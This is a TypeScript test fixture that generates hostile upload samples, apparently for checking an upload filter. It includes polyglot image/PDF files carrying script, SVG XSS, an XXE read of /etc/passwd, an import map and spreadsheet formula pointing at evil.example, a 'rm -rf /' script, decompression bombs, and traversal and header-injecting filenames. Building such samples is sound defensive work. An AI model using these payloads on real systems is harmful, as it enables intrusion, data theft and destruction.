import { deflateRawSync } from "node:zlib";
import sharp from "sharp";

export interface HostileFile {
  what: string;
  bytes: Uint8Array;
}

const SCRIPT = "<script>window.__ran=1;alert(1)</script>";
const HTML = `<!doctype html><html><body>${SCRIPT}</body></html>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</body></foreignObject></svg>`;

/** Begins as one kind of file and goes on as another. */
const polyglots: Record<string, string> = {
  "a GIF that is a script": "GIF89a/*\u0000\u0000*/=1;window.__ran=1//",
  "a GIF that is a page": `GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000;${HTML}`,
  "a PDF that is a page": `%PDF-1.7\n${HTML}\n%%EOF`,
  "a PDF with a script":
    "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF",
  "a JPEG that is a page": `\u00ff\u00d8\u00ff\u00e0\u0000\u0010JFIF\u0000${HTML}`,
  "a PNG that is a page": `\u0089PNG\r\n\u001a\n${HTML}`,
  "a BMP that is a script": "BM=1;window.__ran=1//",
  "a ZIP that is a page": `PK\u0003\u0004${HTML}`,
  "a WebP that is a page": `RIFF\u0000\u0000\u0000\u0000WEBPVP8 ${HTML}`,
  "an MP3 that is a page": `ID3\u0003\u0000${HTML}`,
  "an AVIF that is a page": `\u0000\u0000\u0000\u0020ftypavif\u0000\u0000\u0000\u0000avif${HTML}`,
};

const texts: Record<string, string> = {
  "a page": HTML,
  "a page after a byte order mark": `\ufeff${HTML}`,
  "a page behind blanks": `${" \n".repeat(600)}${HTML}`,
  "a picture with a script": SVG,
  "a picture with entities": `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
  "a style sheet of XML": `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#"?><x>${SCRIPT}</x>`,
  "a page of XHTML": `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`,
  "a page in a mail": `MIME-Version: 1.0\nContent-Type: text/html\n\n${HTML}`,
  "a page in UTF-7": "+ADw-script+AD4-window.__ran=1+ADw-/script+AD4-",
  "a script": "window.__ran=1",
  "a module map": '{"imports":{"react":"https://evil.example/x.js"}}',
  "a shell script": "#!/bin/sh\nrm -rf /",
  "settings of a web server": "AddType text/html .jpg\nphp_flag engine on",
  "a calendar": "BEGIN:VCALENDAR\nURL:javascript:alert(1)\nEND:VCALENDAR",
  "a formula": '=HYPERLINK("https://evil.example","x")',
};

const programs: Record<string, string> = {
  "a program for Windows": `MZ${"\u0000".repeat(58)}\u0080\u0000\u0000\u0000${"\u0000".repeat(64)}PE\u0000\u0000`,
  "a program for Linux": `\u007fELF\u0002\u0001\u0001${"\u0000".repeat(60)}`,
};

/** Small files that are huge pictures. */
const bombs = async (): Promise<HostileFile[]> =>
  Promise.all(
    (
      [
        ["png", 10_000, 10_000],
        ["png", 16_000, 200],
        ["jpeg", 10_000, 10_000],
        ["webp", 10_000, 6_000],
      ] as const
    ).map(async ([format, width, height]) => ({
      what: `a ${format} of ${width} by ${height}`,
      bytes: await sharp({ create: { width, height, channels: 3, background: "teal" } })
        .toFormat(format, { effort: 1 } as object)
        .toBuffer(),
    })),
  );

/** Says that it is larger than any memory. */
function liar(): HostileFile {
  const header = Buffer.alloc(33);
  header.write("\u0089PNG\r\n\u001a\n", 0, "latin1");
  header.writeUInt32BE(13, 8);
  header.write("IHDR", 12);
  header.writeUInt32BE(2 ** 31 - 1, 16);
  header.writeUInt32BE(2 ** 31 - 1, 20);
  header.set([8, 6, 0, 0, 0], 24);
  return { what: "a PNG larger than any memory", bytes: header };
}

const zipBomb = (): HostileFile => ({
  what: "a bomb that is packed",
  bytes: Buffer.concat([
    Buffer.from("PK\u0003\u0004", "latin1"),
    deflateRawSync(Buffer.alloc(20_000_000)),
  ]),
});

const asBytes = (named: Record<string, string>, encoding: BufferEncoding): HostileFile[] =>
  Object.entries(named).map(([what, text]) => ({ what, bytes: Buffer.from(text, encoding) }));

export const hostileFiles = async (): Promise<HostileFile[]> => [
  ...asBytes(polyglots, "latin1"),
  ...asBytes(texts, "utf8"),
  { what: "a page in UTF-16", bytes: Buffer.from(`\ufeff${HTML}`, "utf16le") },
  ...(await bombs()),
  liar(),
  zipBomb(),
];

/** None of these may be kept at all. */
export const hostilePrograms = (): HostileFile[] => asBytes(programs, "latin1");

export const hostileNames: readonly string[] = [
  "page.html",
  "photo.jpg.html",
  "photo.html.jpg",
  "invoice.pdf.exe",
  "picture.svg",
  "page.html;.jpg",
  "page.html%00.jpg",
  "page.html\u0000.jpg",
  "page.html\r\nSet-Cookie: taken=1\r\n\r\n.jpg",
  'a"; filename="b.html',
  "a'b*c.html",
  "../../../../etc/passwd",
  "..\\..\\windows\\system.ini",
  "%2e%2e%2fetc%2fpasswd",
  "/absolute.html",
  "C:\\page.html",
  ".htaccess",
  "CON",
  "invoice\u202egpj.exe",
  "half\ud800.html",
  "<script>alert(1)</script>.html",
  "＜img src=x＞.html",
  "häuser 🏠.html",
  "a".repeat(180),
  " page.html ",
  "page.html.",
];
